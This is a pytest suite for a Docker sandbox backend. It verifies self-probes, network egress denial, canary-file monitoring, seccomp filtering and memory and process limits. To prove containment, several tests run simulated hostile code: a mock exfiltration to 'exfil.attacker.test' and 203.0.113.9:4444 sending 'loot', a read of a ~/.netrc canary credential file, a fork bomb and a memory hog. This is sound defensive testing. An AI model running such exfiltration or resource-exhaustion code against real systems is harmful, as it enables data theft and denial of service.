"""The assembly of a box, made by Docker: self-probe, record, egress, canaries, limits."""

import asyncio

import pytest

from zu_backends.docker import containment as containment_module
from zu_backends.docker import jail as jail_module
from zu_backends.docker import plan, probing
from zu_core.contracts import BoxSpec, Canary, Envelope, Limits
from zu_core.errors import ConfigError, Unavailable
from zu_core.events import (
    BoxEnded,
    BoxProbed,
    BoxStarted,
    CanaryTouched,
    EgressObserved,
    Executed,
    FileChanged,
    MonitorReported,
    ProgramEnded,
    ProgramStarted,
)
from zu_core.ports import Box, Containment

from .conftest import left_behind

CANARY = Canary(name="netrc", path=".netrc", content="password s3cr3t-x\n", secrets=("s3cr3t-x",))
SPEC = BoxSpec(canaries=(CANARY,))


def failed(lab):
    return {one.name for probed in lab.of(BoxProbed) for one in probed.checks if not one.passed}


async def test_a_run_is_recorded_from_the_box_to_its_end(lab):
    async with lab.box(SPEC) as box:
        assert isinstance(box, Box)
        end, out, _err = await lab.run(
            box, "/bin/sh", "-c", "cat ~/.netrc; echo hi > /tmp/x; /bin/true & wait; exit 3"
        )
        await box.settle()
    assert (end.code, out) == (3, CANARY.content)
    assert lab.of(BoxStarted)[0].backend == "docker"
    assert failed(lab) == set()
    assert {one.name for one in lab.of(BoxProbed)[0].checks} >= {
        "tcp-denied", "udp-denied", "dns-denied", "no-privileges", "canary-watch", "cgroup-limits",
    }  # fmt: skip
    assert lab.of(ProgramStarted)[0].argv[0] == "/bin/sh"
    assert "/bin/true" in {one.path for one in lab.effects(Executed)}
    assert {one.access for one in lab.effects(CanaryTouched)} == {"opened", "read"}
    assert [one.path for one in lab.effects(FileChanged)] == ["/tmp/x"]
    assert lab.of(ProgramEnded)[0].code == 3
    reports = {one.monitor: one.state for one in lab.of(MonitorReported)}
    assert reports == dict.fromkeys(
        ("egress", "canaries", "files", "syscalls", "resources"), "complete"
    )
    assert lab.of(BoxEnded)[0].reason == ""
    assert await left_behind(lab.engine) == []


async def test_what_is_not_allowed_is_refused_and_recorded(lab):
    """ZU-NET-1."""
    source = """
import socket
try: socket.getaddrinfo("exfil.attacker.test", 443)
except OSError as error: print("dns", error.errno)
s = socket.create_connection(("203.0.113.9", 4444)); s.sendall(b"loot")
try: print("tcp", s.recv(1))
except OSError as error: print("tcp", error.errno)
socket.socket(type=socket.SOCK_DGRAM).sendto(b"loot", ("203.0.113.9", 999))
"""
    async with lab.box(SPEC) as box:
        end, out, err = await lab.python(box, source)
        await box.settle()
    assert end.code == 0, err
    assert out == "dns -2\ntcp 104\n"
    facts = lab.of(EgressObserved)
    assert {one.decision for one in facts} == {"denied"}
    assert {("dns", "exfil.attacker.test", 0), ("tcp", "", 4444), ("udp", "", 999)} <= {
        (one.channel, one.host, one.port if one.channel != "dns" else 0) for one in facts
    }


async def test_an_allowed_address_is_reached_through_the_proxy(lab):
    async def serve(reader, writer):
        await reader.readline()
        writer.write(b"welcome\n")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    source = f"""
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")
print(s.recv(999).split()[1].decode())
s.sendall(b"hello\\n"); print(s.recv(99).decode())
"""
    spec = BoxSpec(envelope=Envelope(egress=(f"127.0.0.1:{port}",)))
    async with server, lab.box(spec) as box:
        _end, out, err = await lab.python(box, source)
        await box.settle()
    assert out.split() == ["200", "welcome"], err
    assert {one.decision for one in lab.of(EgressObserved)} == {"allowed"}


async def test_a_program_that_uses_too_much_memory_is_killed(lab):
    spec = BoxSpec(limits=Limits(memory_bytes=64 << 20))
    source = (
        "x = bytearray(200 << 20); x[::4096] = b'1' * len(x[::4096]); import time; time.sleep(60)"
    )
    async with lab.box(spec) as box:
        end, _out, _err = await lab.python(box, source)
    assert (end.code, end.killed_for) == (137, "memory_bytes")


async def test_a_fork_bomb_ends_at_the_limit(lab):
    spec = BoxSpec(limits=Limits(processes=16))
    source = """
import os, signal
n = 0
try:
    while True:
        if os.fork() == 0: signal.pause()
        n += 1
except OSError as error: print(n, error.errno)
"""
    async with lab.box(spec) as box:
        _end, out, _err = await lab.python(box, source)
    made, errno = map(int, out.split())
    assert errno == 11
    assert made <= 19


async def test_programs_come_one_after_the_other_and_each_is_probed(lab):
    async with lab.box(SPEC) as box:
        await lab.run(box, "/bin/sh", "-c", "echo 1 > /workspace/a")
        end, out, _err = await lab.run(box, "/bin/cat", "/workspace/a")
    assert (end.code, out) == (0, "1\n")
    assert len(lab.of(BoxProbed)) == 2


async def test_a_program_that_is_not_there_is_told(lab):
    async with lab.box(SPEC) as box:
        with pytest.raises(ConfigError, match="can't be executed"):
            await box.start(["/bin/nothing"])


def _plan_without(monkeypatch, **changes):
    made = plan.program

    def weaker(*arguments):
        config = made(*arguments)
        config["HostConfig"] |= changes.get("host", {})
        return config | changes.get("container", {})

    monkeypatch.setattr(plan, "program", weaker)


@pytest.mark.parametrize(
    ("host", "container", "missed"),
    [
        ({"PidMode": "host"}, {}, "host-process"),
        ({"CapDrop": [], "SecurityOpt": []}, {"User": "0:0"}, "no-privileges"),
        ({"PidsLimit": 0, "Memory": 0, "MemorySwap": 0}, {}, "cgroup-limits"),
    ],
    ids=["pid-namespace", "privileges", "cgroup"],
)
async def test_a_box_that_lacks_a_protection_runs_nothing(
    lab, monkeypatch, host, container, missed
):
    """The check is broken on purpose: the self-probe must see it."""
    _plan_without(monkeypatch, host=host, container=container)
    with pytest.raises(Unavailable):
        async with lab.box(SPEC) as box:
            await lab.run(box, "/bin/true")
    assert not lab.of(ProgramStarted)
    assert missed in failed(lab)
    assert await left_behind(lab.engine) == []


async def test_a_box_without_its_filter_runs_nothing(lab, monkeypatch):
    filters = jail_module._filters()
    allow_all = bytes.fromhex("060000000000ff7f")
    monkeypatch.setattr(jail_module, "_filters", lambda: filters._replace(deny=allow_all))
    with pytest.raises(Unavailable, match="seccomp filter"):
        async with lab.box(SPEC) as box:
            await lab.run(box, "/bin/true")
    assert "socket-families" in failed(lab)


async def test_a_box_whose_network_is_not_ours_runs_nothing(lab, monkeypatch):
    """Its listeners are those of another box: nothing that it does reaches them."""
    monkeypatch.setattr(probing, "TRACE_SECONDS", 0.2)
    other = await jail_module.DockerJail.start(lab.engine, lab.image)

    async def of_other(_engine, _parts, _holder, _pid):
        return {role: sock.dup() for role, sock in other.listeners.items()}

    try:
        with pytest.raises(Unavailable, match="TCP ends at the proxy"):
            async with lab.box(SPEC, listeners=of_other) as box:
                await lab.run(box, "/bin/true")
    finally:
        await other.close()
    assert {"tcp-denied", "dns-denied", "udp-denied"} <= failed(lab)


def test_it_is_a_containment(engine, image):
    assert isinstance(containment_module.DockerContainment(engine, image), Containment)


def test_what_is_left_out_is_said():
    assert any("root-entries" in one for one in containment_module.MECHANISMS)
